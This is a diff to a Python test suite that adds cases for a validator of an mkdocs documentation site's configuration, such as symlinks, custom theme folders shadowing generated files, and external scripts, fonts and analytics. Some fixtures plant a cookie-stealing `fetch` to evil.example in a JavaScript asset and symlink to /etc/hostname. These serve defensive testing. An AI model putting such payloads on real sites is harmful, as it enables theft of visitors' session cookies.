@@ -62,11 +62,83 @@ def custom_dir_outside(inst: Instance, marker: Path) -> None:
     (inst.root / "mkdocs.yml").write_text(text)
 
 
-def custom_dir_with_link(inst: Instance, marker: Path) -> None:
-    text = (inst.root / "mkdocs.yml").read_text().replace("  name: material\n", "  name: material\n  custom_dir: overrides\n", 1)
+def set_custom_dir(inst: Instance, folder: str) -> Path:
+    text = (inst.root / "mkdocs.yml").read_text().replace("  name: material\n", f"  name: material\n  custom_dir: {folder}\n", 1)
     (inst.root / "mkdocs.yml").write_text(text)
-    (inst.root / "overrides").mkdir()
-    os.symlink("/etc/hostname", inst.root / "overrides" / "main.html")
+    (inst.root / folder).mkdir(parents=True, exist_ok=True)
+    return inst.root / folder
+
+
+def custom_dir_with_link(inst: Instance, marker: Path) -> None:
+    folder = set_custom_dir(inst, "site_src/overrides")
+    (folder / "partials").mkdir()
+    os.symlink("/etc/hostname", folder / "partials" / "footer.html")
+
+
+def custom_dir_is_the_root(inst: Instance, marker: Path) -> None:
+    # mkdocs copies a theme folder's non-template files into the site: here keys/ and bundles/.
+    set_custom_dir(inst, ".")
+
+
+def custom_dir_is_keys(inst: Instance, marker: Path) -> None:
+    set_custom_dir(inst, "keys/")
+
+
+def custom_dir_outside_site_src(inst: Instance, marker: Path) -> None:
+    set_custom_dir(inst, "overrides")
+
+
+def custom_dir_replaces_generated_data(inst: Instance, marker: Path) -> None:
+    # A fake index.json made `release verify --site` pass a rehearsal (issue 20).
+    folder = set_custom_dir(inst, "site_src/overrides")
+    (folder / "data").mkdir()
+    (folder / "data" / "index.json").write_text('{"rehearsal": false}')
+
+
+def custom_dir_replaces_main_template(inst: Instance, marker: Path) -> None:
+    # Sealboard's main.html carries the rehearsal banner and noindex on every page.
+    folder = set_custom_dir(inst, "site_src/overrides")
+    (folder / "main.html").write_text('{% extends "base.html" %}\n')
+
+
+def custom_dir_replaces_an_asset(inst: Instance, marker: Path) -> None:
+    folder = set_custom_dir(inst, "site_src/overrides")
+    (folder / "assets").mkdir()
+    (folder / "assets" / "sealboard.js").write_text("fetch('https://evil.example/?'+document.cookie)")
+
+
+def site_src_replaces_an_asset(inst: Instance, marker: Path) -> None:
+    append(inst, "site_src/assets/tablesort.min.js", "fetch('https://evil.example/')")
+
+
+def site_src_replaces_the_changelog(inst: Instance, marker: Path) -> None:
+    append(inst, "site_src/changelog.md", "# Nothing changed\n")
+
+
+def external_javascript(inst: Instance, marker: Path) -> None:
+    append(inst, "mkdocs.yml", "extra_javascript:\n  - https://cdn.example.com/tracker.js\n")
+
+
+def external_javascript_protocol_relative(inst: Instance, marker: Path) -> None:
+    append(inst, "mkdocs.yml", "extra_javascript:\n  - path: //cdn.example.com/tracker.js\n    async: true\n")
+
+
+def external_css(inst: Instance, marker: Path) -> None:
+    append(inst, "mkdocs.yml", "extra_css:\n  - HTTPS://fonts.example.com/x.css\n")
+
+
+def analytics(inst: Instance, marker: Path) -> None:
+    append(inst, "mkdocs.yml", "extra:\n  analytics:\n    provider: google\n    property: G-XXXXXXX\n")
+
+
+def web_fonts(inst: Instance, marker: Path) -> None:
+    text = (inst.root / "mkdocs.yml").read_text().replace("  name: material\n", "  name: material\n  font:\n    text: Roboto\n", 1)
+    (inst.root / "mkdocs.yml").write_text(text)
+
+
+def external_logo(inst: Instance, marker: Path) -> None:
+    text = (inst.root / "mkdocs.yml").read_text().replace("  name: material\n", "  name: material\n  logo: https://evil.example/pixel.png\n", 1)
+    (inst.root / "mkdocs.yml").write_text(text)
 
 
 def symlink_in_site_src(inst: Instance, marker: Path) -> None:
@@ -94,7 +166,21 @@ SITE_CASES: dict[str, tuple[Callable[[Instance, Path], None], list[tuple[str, st
     "site/inherit": (inherit, [("mkdocs.yml", "mkdocs-inherit")]),
     "site/plugin-not-on-allow-list": (plugin_off_the_list, [("mkdocs.yml", "plugin-not-allowed")]),
     "site/custom-dir-outside": (custom_dir_outside, [("mkdocs.yml", "mkdocs-path")]),
-    "site/custom-dir-holds-a-link": (custom_dir_with_link, [("overrides/main.html", "site-symlink")]),
+    "site/custom-dir-holds-a-link": (custom_dir_with_link, [("site_src/overrides/partials/footer.html", "site-symlink")]),
+    "site/custom-dir-is-the-root": (custom_dir_is_the_root, [("mkdocs.yml", "mkdocs-path")]),
+    "site/custom-dir-is-keys": (custom_dir_is_keys, [("mkdocs.yml", "mkdocs-path")]),
+    "site/custom-dir-outside-site-src": (custom_dir_outside_site_src, [("mkdocs.yml", "mkdocs-path")]),
+    "site/custom-dir-replaces-data-index": (custom_dir_replaces_generated_data, [("site_src/overrides/data/index.json", "shadows-generated")]),
+    "site/custom-dir-replaces-main-html": (custom_dir_replaces_main_template, [("site_src/overrides/main.html", "shadows-generated")]),
+    "site/custom-dir-replaces-an-asset": (custom_dir_replaces_an_asset, [("site_src/overrides/assets/sealboard.js", "shadows-generated")]),
+    "site/site-src-replaces-an-asset": (site_src_replaces_an_asset, [("site_src/assets/tablesort.min.js", "shadows-generated")]),
+    "site/site-src-replaces-the-changelog": (site_src_replaces_the_changelog, [("site_src/changelog.md", "shadows-generated")]),
+    "site/extra-javascript-elsewhere": (external_javascript, [("mkdocs.yml", "external-script")]),
+    "site/extra-javascript-protocol-relative": (external_javascript_protocol_relative, [("mkdocs.yml", "external-script")]),
+    "site/extra-css-elsewhere": (external_css, [("mkdocs.yml", "external-style")]),
+    "site/analytics": (analytics, [("mkdocs.yml", "analytics")]),
+    "site/web-fonts": (web_fonts, [("mkdocs.yml", "external-font")]),
+    "site/logo-elsewhere": (external_logo, [("mkdocs.yml", "external-asset")]),
     "site/symlink-in-site-src": (symlink_in_site_src, [("site_src/env.md", "site-symlink")]),
     "site/site-src-data-shadows-a-board": (shadows_generated_data, [(f"site_src/data/{BENCH}/overall.json", "shadows-generated")]),
     "site/bundles-gitattributes-eol-crlf": (bundles_gitattributes, [("bundles/.gitattributes", "gitattributes")]),
